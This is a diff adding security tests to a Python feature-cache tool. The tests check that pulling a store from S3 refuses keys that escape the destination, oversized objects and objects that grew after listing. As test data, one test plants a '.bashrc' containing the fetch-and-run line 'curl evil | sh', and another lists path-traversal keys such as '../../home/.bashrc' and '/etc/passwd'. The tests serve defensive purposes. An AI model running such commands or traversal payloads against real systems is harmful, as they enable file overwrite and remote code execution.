@@ -17,7 +17,7 @@ from featcache import location as where
 from featcache import remote
 from featcache import store as fs
 from featcache.schema import ARRAYS, component_hash
-from tests.conftest import TINY_TEACHER, invoke, store_bytes, tiny_config
+from tests.conftest import TINY_TEACHER, invoke, one_error_line, store_bytes, tiny_config
 
 BUCKET = "customkd-test"
 
@@ -192,3 +192,61 @@ def test_distill_from_s3(tiny_store, s3, tmp_path):
     config = json.loads((tmp_path / "run" / "config.json").read_text())
     assert config["cache"] == url and config["store_fingerprint"] == {
         name: part["hash"] for name, part in fs.read_attrs(fs.open_store(tiny_store))["fingerprint"].items()}
+
+
+def test_pull_refuses_a_key_escaping_the_destination(tiny_store, s3, tmp_path):
+    """A bucket whose store holds the key ``c.zarr/../../home/.bashrc``: pull names it and writes nothing."""
+    url = f"{s3}/c.zarr"
+    remote.push(tiny_store, url)
+    s3fs, root = where.filesystem(url)
+    s3fs.pipe_file(f"{root}/../../home/.bashrc", b"curl evil | sh")
+    dest = tmp_path / "caches" / "pulled.zarr"
+    one_error_line(invoke("cache", "pull", url, dest), "../../home/.bashrc")
+    assert not dest.exists() and not (tmp_path / "home").exists()  # nothing written, inside or outside
+
+
+def test_contained_key(tmp_path):
+    dest = tmp_path / "dest.zarr"
+    (dest / "labels").mkdir(parents=True)
+    (dest / "features").symlink_to(tmp_path)  # a link left in a destination leads out of it
+    assert where.contained_key(dest, "labels/c/0") and where.contained_key("s3://b/c.zarr", "labels/c/0")
+    for key in ("../x", "a/../../x", "/etc/passwd", "", "a//b", "./a", "a\\..\\..\\x", "a\x00b", "features/c/0"):
+        assert not where.contained_key(dest, key), key
+    assert not where.contained_key("s3://b/c.zarr", "../x")
+
+
+def test_pull_refuses_an_object_larger_than_the_manifest_allows(tiny_store, s3, tmp_path):
+    """A chunk object far larger than its shard can be is refused before it is read."""
+    url = f"{s3}/c.zarr"
+    remote.push(tiny_store, url)
+    s3fs, root = where.filesystem(url)
+    s3fs.pipe_file(f"{root}/labels/c/0", bytes(2**21))
+    dest = tmp_path / "pulled.zarr"
+    one_error_line(invoke("cache", "pull", url, dest), "labels/c/0")
+    assert not dest.exists()
+
+
+def test_pull_streams_large_objects_and_refuses_one_that_grew(tiny_store, s3, tmp_path, monkeypatch):
+    """With batches of 512 bytes every shard of features streams in pieces and arrives byte for byte; an object
+    holding more than its listing said (it grew after the listing) is refused, streamed or batched."""
+    url = f"{s3}/c.zarr"
+    remote.push(tiny_store, url)
+    monkeypatch.setattr(remote, "COPY_BATCH_BYTES", 512)
+    remote.pull(url, tmp_path / "pulled.zarr")
+    assert store_bytes(tmp_path / "pulled.zarr", manifest=True) == store_bytes(tiny_store, manifest=True)
+
+    sizes = where.list_objects(url)
+    listed = where.objects_under
+    largest = max((key for key in sizes if key != "zarr.json"), key=sizes.get)
+    assert sizes[largest] > 512 and sizes["labels/c/0"] < 512
+    for key in (largest, "labels/c/0", "zarr.json"):  # streamed, batched, the root manifest
+
+        def understated(filesys, root, key=key):
+            objects = listed(filesys, root)
+            if root.startswith(BUCKET):  # the source's listing, not the destination's
+                objects[key] -= 1
+            return objects
+
+        monkeypatch.setattr(remote, "objects_under", understated)
+        with pytest.raises(UserError, match=f"object {key} of .* is not the {sizes[key] - 1} bytes its listing"):
+            remote.pull(url, tmp_path / f"grew-{key.replace('/', '-')}.zarr")
